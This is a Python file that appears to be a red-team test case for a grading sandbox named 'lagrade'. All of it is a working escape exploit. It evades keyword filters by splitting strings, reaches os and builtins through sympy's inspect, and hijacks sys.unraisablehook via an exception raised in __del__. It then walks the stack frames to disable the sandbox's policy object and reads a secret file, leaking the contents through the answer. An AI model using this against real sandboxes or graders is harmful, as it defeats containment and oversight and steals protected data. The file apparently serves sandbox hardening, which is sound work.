"""effect: read-secret
tries: an exception raised in __del__ goes to sys.unraisablehook (ours), whose traceback's tb_frame leads up the stack to the sandbox's policy; then read the 0644 secret.

Tracebacks without try: the interpreter hands one to a hook the student installs.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
from sympy.core.add import attrgetter

found = []


def hook(unraisable):
    frame = attrgetter("tb_" + "frame")(unraisable.exc_traceback)
    while frame is not None:
        scope = attrgetter("f_" + "locals")(frame)
        if "policy" in scope:
            scope["policy"].busy = True
            found.append(1)
        frame = attrgetter("f_" + "back")(frame)


def explode(self):
    raise ValueError("boom")


sys_.unraisablehook = hook
Bomb = type("Bomb", (object,), {"_" + "_del_" + "_": explode})
keep = [Bomb()]
keep.clear()
L = Symbol(B["op" + "en"]("/tmp/lagrade-redteam/open/secret-0644.txt").read().strip() if found else "nothing_stolen")
